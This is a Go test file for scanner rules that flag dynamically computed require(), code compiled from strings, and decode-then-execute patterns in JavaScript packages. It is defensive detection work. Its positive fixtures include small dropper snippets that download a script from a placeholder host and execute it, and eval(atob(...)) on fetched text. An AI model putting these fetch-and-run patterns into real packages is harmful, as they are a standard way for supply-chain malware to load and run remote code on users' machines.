package rules

import "testing"

func TestComputedRequire(t *testing.T) {
	runCases(t, ComputedRequire, []ruleCase{
		{"plugin loader", one("a.js", `module.exports = (name) => require(name)`), Info, "require of a specifier computed at run time (name)"},
		{"dynamic import", one("a.mjs", `export const load = (m) => import(m)`), Info, "import()"},
		{"install time", installPkg(`const m = process.argv[2]; require(m)`), Medium, "install time"},
		{"decoded specifier", one("a.js", `require(Buffer.from(spec, 'base64').toString())`), High, "decoded at run time (base64)"},
		{"dropper", one("a.js", `const https = require('https'), fs = require('fs');
https.get('https://cdn.example.net/stage2.js', (r) => { r.pipe(fs.createWriteStream(tmp)).on('finish', () => require(tmp)) })`), High, "downloads from a fixed URL"},
		// Negatives: the package's own files and constant names.
		{"own path", one("a.js", `require(path.join(__dirname, 'locale', lang))`), "", ""},
		{"relative concat", one("a.js", `require('./locale/' + lang)`), "", ""},
		{"dirname template", one("a.js", "require(`${__dirname}/plugins/${name}`)"), "", ""},
		{"resolve", one("a.js", `require(require.resolve(id, {paths}))`), "", ""},
		{"constant", one("a.js", `require('chi' + 'ld_process')`), "", ""},
		{"webpack runtime", one("dist/main.js", `(()=>{var e={1:(e)=>{e.exports=1}},t={};function __webpack_require__(r){var o=t[r];if(o!==undefined)return o.exports;var n=t[r]={exports:{}};return e[r](n,n.exports,__webpack_require__),n.exports}__webpack_require__(1)})()`), "", ""},
	})
}

func TestModuleFromString(t *testing.T) {
	runCases(t, ModuleFromString, []ruleCase{
		{"require from string", one("a.js", `const Module = require('module');
module.exports = (src, filename) => { const m = new Module(filename, module.parent); m._compile(src, filename); return m.exports }`), Medium, "compiles code with new Module()"},
		{"vm script", one("a.js", `const vm = require('vm'); new vm.Script(code, {filename}).runInThisContext()`), Medium, "new vm.Script"},
		{"decoded", one("a.js", `const vm = require('vm'); vm.runInThisContext(Buffer.from(blob, 'hex').toString())`), High, "decoded at run time (hex)"},
		{"fetched", one("a.js", `const https = require('https'), vm = require('vm');
https.get('https://cdn.example.net/p.js', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => vm.runInNewContext(s, {require})) })`), High, "downloads from a fixed URL"},
		{"install time", installPkg(`require('vm').runInThisContext(code)`), High, "install time"},
		// Negatives.
		{"eval only", one("a.js", `eval(code)`), "", ""},
		{"createRequire", one("a.mjs", `import {createRequire} from 'module'; const require = createRequire(import.meta.url);`), "", ""},
	})
}

// Bundler runtimes, source maps and charset helpers are not
// decode-then-execute (VGL-A023 at high); hidden payloads still are.
func TestDecodeExecBundlerShapes(t *testing.T) {
	runCases(t, DecodeExec, []ruleCase{
		{"js_of_ocaml eval helper", one("lib/x.bc.js", `(function(globalThis){
function caml_utf16_of_utf8(s){ var t = ''; for (var i = 0; i < s.length; i++) { var c = s.charCodeAt(i); t += String.fromCharCode(c < 0x80 ? c : 0xd7c0 + (c >> 10)); } return t; }
function caml_jsstring_of_string(s){ return caml_utf16_of_utf8(s); }
function caml_js_eval_string(s){ return eval(caml_jsstring_of_string(s)); }
function caml_js_var(x){ var x = caml_jsstring_of_string(x); return eval(x); }
globalThis.jsoo = {caml_js_eval_string: caml_js_eval_string, caml_js_var: caml_js_var};
}(globalThis));`), Medium, "a helper decodes its parameter"},
		{"source-map-support", one("a.js", `const map = JSON.parse(Buffer.from(url.slice(url.indexOf(',') + 1), 'base64').toString()); retrieveSourceMap(map)`), "", ""},
		{"inline source map in eval devtool", one("main.js", `eval("module.exports = 1;\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozfQ==\n//# sourceURL=webpack://x/./a.js");`), "", ""},
		{"browserify prelude", one("bundle.js", `(function(){function r(e,n,t){function o(i,f){if(!n[i]){if(!e[i]){var c="function"==typeof require&&require;if(!f&&c)return c(i,!0);if(u)return u(i,!0);var a=new Error("Cannot find module '"+i+"'");throw a.code="MODULE_NOT_FOUND",a}var p=n[i]={exports:{}};e[i][0].call(p.exports,function(r){var n=e[i][1][r];return o(n||r)},p,p.exports,r,e,n,t)}return n[i].exports}for(var u="function"==typeof require&&require,i=0;i<t.length;i++)o(t[i]);return o}return r})()({1:[function(require,module,exports){module.exports=atob('aGk=')},{}]},{},[1]);`), "", ""},
		// Positives the helper exception must not hide.
		{"helper pinned to a payload", one("a.js", `function run(p) { return eval(atob(p)) } run('Y29uc29sZS5sb2coMSk=')`), High, "base64"},
		{"callback of a download", one("a.js", `fetch(u).then((r) => r.text()).then((t) => eval(atob(t)))`), High, "base64"},
	})
}
